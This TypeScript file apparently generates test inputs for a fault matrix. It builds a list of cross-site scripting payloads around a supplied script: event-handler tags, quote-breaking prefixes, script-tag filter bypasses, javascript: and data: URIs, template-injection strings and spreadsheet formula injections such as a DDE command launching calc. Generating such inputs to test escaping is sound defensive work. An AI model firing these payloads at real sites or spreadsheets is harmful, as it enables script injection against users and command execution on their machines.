/** Texts that would run a script where a page takes a text for something else: row 86 of the fault matrix. */

/** Ways to run `act`, if a text were taken for something else. */
export function payloadsOf(act: string): string[] {
  const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter']
  const tags = [
    'img src=x',
    'svg',
    'input autofocus',
    'details open',
    'video src=x',
    'body',
    'iframe src=x',
    'a href=x',
  ]
  const elements = tags.flatMap(tag => events.map(event => `<${tag} ${event}=${act}>`))
  const broken = elements.slice(0, 56).map(one => `"'></span>${one}`)
  return [
    ...elements,
    ...broken,
    ...[`<script>${act}</script>`, `</script><script>${act}</script>`, `<scr<script>ipt>${act}</script>`],
    ...[`javascript:${act}`, `data:text/html,<script>${act}</script>`, `{{constructor.constructor('${act}')()}}`],
    ...[
      `\${${act}}`,
      `<%= ${act} %>`,
      `=cmd|' /C calc'!A0`,
      `@SUM(1+1)`,
      `+1+1`,
      `-1+1`,
      `\u003cimg src=x onerror=${act}\u003e`,
    ],
    ...['&lt;img src=x onerror=alert(1)&gt;', '%3Cscript%3Ealert(1)%3C/script%3E', '<!--><img src=x onerror=alert(1)>'],
    ...Array.from({ length: 72 }, (_, n) => `<x${n} style=animation-name:x onanimationend=${act}>`),
  ]
}
